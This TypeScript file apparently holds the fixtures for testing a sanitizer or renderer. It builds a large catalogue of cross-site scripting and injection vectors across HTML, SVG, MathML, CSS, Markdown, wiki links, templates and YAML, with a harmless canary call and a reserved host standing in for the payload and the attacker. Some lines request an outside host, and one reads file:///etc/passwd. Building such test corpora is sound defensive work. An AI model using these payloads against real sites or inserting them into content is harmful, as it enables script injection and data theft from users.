/**
 * Texts that would run code, or ask another host, where somebody takes them for markup. `RUN` is what they would call; `FAR` is a host
 * that nobody may ask.
 */

const entities = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)};`).join('')
const hexEntities = (text: string): string =>
  `${[...text].map((char) => `&#x${char.codePointAt(0)?.toString(16)}`).join(';')};`
const longEntities = (text: string): string =>
  `${[...text].map((char) => `&#${String(char.codePointAt(0)).padStart(7, '0')}`).join('')} `
const percent = (text: string): string => [...text].map((char) => `%${char.codePointAt(0)?.toString(16)}`).join('')

const SCRIPTS = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script\t>RUN</script\n>',
  '<script/x>RUN</script>',
  '<script src=data:text/javascript,RUN></script>',
  '<script src="//FAR/x.js"></script>',
  '<script type=module>RUN</script>',
  '<script type="text/javascript" async defer>RUN//</script>',
  '<script>/*</script><script>*/RUN</script>',
  '<<script>RUN//<</script>',
  '</script><script>RUN</script>',
  '"><script>RUN</script>',
  "'><script>RUN</script>",
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '<script>RUN',
  '<scr<script>ipt>RUN</scr</script>ipt>',
]

const HANDLERS = [
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  "<img src='x' onerror='RUN'>",
  '<img/src=x/onerror=RUN>',
  '<img\nsrc=x\nonerror\n=\nRUN>',
  '<img src=x:x onerror\u000c=RUN>',
  '<IMG SRC=x OnErRoR=RUN>',
  '<img srcset=x onerror=RUN>',
  '<img src=x onerror=RUN//',
  '<image src=x onerror=RUN>',
  `<img src=x onerror="${entities('RUN')}">`,
  `<img src=x onerror="${hexEntities('RUN')}">`,
  `<img src=x onerror=${longEntities('RUN')}>`,
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`><img src=x onerror=RUN>',
  '" onerror=RUN src=x x="',
  '" autofocus onfocus=RUN x="',
  "' autofocus onfocus=RUN x='",
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<input autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<a href=# autofocus onfocus=RUN tabindex=1>x</a>',
  '<div contenteditable autofocus onfocus=RUN>x</div>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>',
  '<video src=x onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<iframe onload=RUN></iframe>',
  '<object data=x onerror=RUN></object>',
  '<embed src=x onerror=RUN>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<style onload=RUN></style>',
  '<marquee onstart=RUN>x</marquee>',
  '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=RUN>x</b>',
  '<div style="width:9em;height:9em" onpointerover=RUN onmouseover=RUN onclick=RUN>x</div>',
  '<b onclick=RUN onmousedown=RUN onpointerdown=RUN>x</b>',
  '<xss autofocus tabindex=1 onfocus=RUN>x</xss>',
  '<custom-element onclick=RUN onfocus=RUN tabindex=0 autofocus>x</custom-element>',
]

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\tscript:RUN',
  'java\u000dscript:RUN',
  'javascript\t:RUN',
  'javascript&colon;RUN',
  'javascript&#58;RUN',
  'javascript&#x3a;RUN',
  'java&Tab;script:RUN',
  'java&NewLine;script:RUN',
  '&#1;javascript:RUN',
  entities('javascript:RUN'),
  hexEntities('javascript:RUN'),
  percent('javascript:RUN'),
  'javascript:%52UN',
  'javascript://FAR/%0aRUN',
  'javascript:void(RUN)',
  'vbscript:RUN',
  'data:text/html,<script>parent.RUN;opener.RUN;RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  'data:text/javascript,RUN',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
  'blob:null/RUN',
  'filesystem:http://FAR/x',
  'view-source:javascript:RUN',
  'file:///etc/passwd',
  '//FAR/x',
  'http://FAR/x',
]

const MARKUP_WITH_ADDRESS = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `[x](<${url}>)`,
  (url: string) => `[x](${url})`,
  (url: string) => `![x](<${url}>)`,
  (url: string) => `<${url}>`,
  (url: string) => `[x]\n\n[x]: <${url}>`,
]

/** Each address in two kinds of markup, in turn: all with all would tell no more. */
const LINKS = ADDRESSES.flatMap((url, at) =>
  [0, 1].map((step) => MARKUP_WITH_ADDRESS[(at + step * 3) % MARKUP_WITH_ADDRESS.length]?.(url) ?? url),
)

const DRAWINGS = [
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><script xlink:href="data:text/javascript,RUN"></script></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributename=x>',
  '<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=RUN></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>',
  '<svg><image href=x onerror=RUN></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>',
  '<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>',
  '</title></circle><script xmlns="http://www.w3.org/2000/svg">RUN</script>',
  '</text><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="RUN"/></foreignObject>',
]

const FORMULAS = [
  '<math><mi xlink:href="javascript:RUN">x</mi></math>',
  '<math href="javascript:RUN">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  '\\href{javascript:RUN}{x}',
  '\\url{javascript:RUN}',
  '\\html{<img src=x onerror=RUN>}',
  '\\htmlData{x=y" onerror="RUN}{x}',
  '\\unicode{<img src=x onerror=RUN>}',
  '\\includegraphics{x" onerror="RUN}',
  '\\style{background:url(//FAR/x)}{x}',
]

const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<template><img src=x onerror=RUN></template>',
  '<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>',
  '<title><img title="</title><img src=x onerror=RUN>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<math></p><style><!--</style><img src=x onerror=RUN>--></style>',
  '<!--><img src=x onerror=RUN>-->',
  '<!---><img src=x onerror=RUN>-->',
  '<!-- --!><img src=x onerror=RUN>',
  '<![CDATA[><img src=x onerror=RUN>]]>',
  '<!<img src=x onerror=RUN>>',
  '<?<img src=x onerror=RUN>?>',
  '<a/="><img src=x onerror=RUN>',
  '<img alt="`><img src=x onerror=RUN>`">',
  '<listing>&lt;img src=x onerror=RUN&gt;</listing>',
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '\\<img src=x onerror=RUN\\>',
  '\u003cimg src=x onerror=RUN\u003e',
  '＜img src=x onerror=RUN＞',
  '<table><td background=javascript:RUN><img src=x onerror=RUN>',
]

const STYLES = [
  '<style>@import "//FAR/x.css";</style>',
  '<style>body{background:url(//FAR/x)}</style>',
  '<style>*{behavior:url(#x);-moz-binding:url(//FAR/x#y)}</style>',
  '<b style="background:url(//FAR/x)">x</b>',
  '<b style="background:url(javascript:RUN)">x</b>',
  '<b style="width:expression(RUN)">x</b>',
  '<b style="position:fixed;inset:0;z-index:9999;background:red">x</b>',
  '<link rel=stylesheet href=//FAR/x.css>',
  '<link rel=preload as=image href=//FAR/x>',
  '<link rel=prefetch href=//FAR/x>',
  ';background:url(//FAR/x);x:',
  'red}*{background:url(//FAR/x)}',
]

const FRAMES = [
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>',
  '<object data="data:text/html,<script>parent.RUN</script>"></object>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<base href="//FAR/">',
  '<base href="javascript:RUN//">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=//FAR/x">',
  '<meta http-equiv=content-security-policy content="script-src *">',
  '<form action=javascript:RUN><button autofocus>x</button></form>',
  '<form id=x></form><button form=x formaction=javascript:RUN>x</button>',
  '<form id=cookie name=getElementById><input name=body></form>',
  '<a id=config><a id=config name=url href="javascript:RUN">x</a>',
  '<frameset onload=RUN>',
  '<portal src="javascript:RUN"></portal>',
  '<video poster=//FAR/x></video>',
  '<img src=//FAR/x>',
  '<picture><source srcset=//FAR/x><img></picture>',
]

const BREAKOUTS = [
  '[x](x "onmouseover=RUN")',
  '[x](x"onmouseover="RUN)',
  '![x" onerror="RUN](x)',
  '![x](x" onerror="RUN)',
  '![x](<x" onerror="RUN>)',
  '![](x "x" onerror="RUN")',
  '[<img src=x onerror=RUN>](http://127.0.0.1/)',
  '[x][<img src=x onerror=RUN>]',
  '[[x|<img src=x onerror=RUN>]]',
  '[[<img src=x onerror=RUN>]]',
  '![[x.png|640" onerror="RUN]]',
  '![[<img src=x onerror=RUN>.png]]',
  '@[[x" onmouseover="RUN]]',
  '#x"onmouseover=RUN',
  '^x"onmouseover=RUN',
  '`<img src=x onerror=RUN>`',
  '```js" onmouseover="RUN\nx\n```',
  '```mermaid\ngraph TD\nA[<img src=x onerror=RUN>]\nclick A href "javascript:RUN"\n```',
  '```dataviewjs\nRUN\n```',
  '~~~html\n<img src=x onerror=RUN>\n~~~',
  '| <img src=x onerror=RUN> |\n|---|\n| <script>RUN</script> |',
  '> <img src=x onerror=RUN>',
  '- [ ] <img src=x onerror=RUN>',
  '%%<img src=x onerror=RUN>%%',
  'x:: <img src=x onerror=RUN>',
  '[^1]\n\n[^1]: <img src=x onerror=RUN>',
]

const CODE = [
  "{{constructor.constructor('RUN')()}}",
  '{{RUN}}',
  '${RUN}',
  '<%= RUN %>',
  '`${RUN}`',
  "');RUN;//",
  '");RUN;//',
  '\\");RUN;//',
  '\u2028RUN\u2029',
  '</script><!--<script>RUN',
  "!!js/function 'function(){RUN}'",
  "!!js/undefined 'RUN'",
  '!<tag:yaml.org,2002:js/function> "function(){RUN}"',
  '!!python/object/apply:os.system ["RUN"]',
  '{"__proto__":{"onerror":"RUN"}}',
  '{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"RUN"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
  '__proto__',
  'constructor',
  '\u202e<img src=x onerror=RUN>\u202c',
  '\u0000<img src=x onerror=RUN>',
]

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  SCRIPTS,
  HANDLERS,
  LINKS,
  DRAWINGS,
  FORMULAS,
  MUTATIONS,
  STYLES,
  FRAMES,
  BREAKOUTS,
  CODE,
}

export interface Vector {
  /** Its family and number: `HANDLERS 3`. */
  readonly name: string
  readonly text: string
}

/** A host of no computer: whoever asks it is seen by the request alone. */
export const FAR = 'far.invalid'

/** Every vector, each calling `caught` with its own name's number. */
export const VECTORS: readonly Vector[] = Object.entries(FAMILIES)
  .flatMap(([family, texts]) => texts.map((text, at) => ({ name: `${family} ${at}`, text })))
  .map(({ name, text }, at) => ({ name, text: called(text, at) }))

/** What is written in code numbers of characters is written so with the call in the place of `RUN`, too. */
function called(text: string, at: number): string {
  const call = `caught(${at})`
  return [entities, hexEntities, longEntities, percent]
    .reduce((written, encode) => written.replaceAll(encode('RUN').trim(), () => encode(call).trim()), text)
    .replaceAll('%52UN', () => `%63${call.slice(1)}`)
    .replaceAll('RUN', () => call)
    .replaceAll('FAR', () => FAR)
}
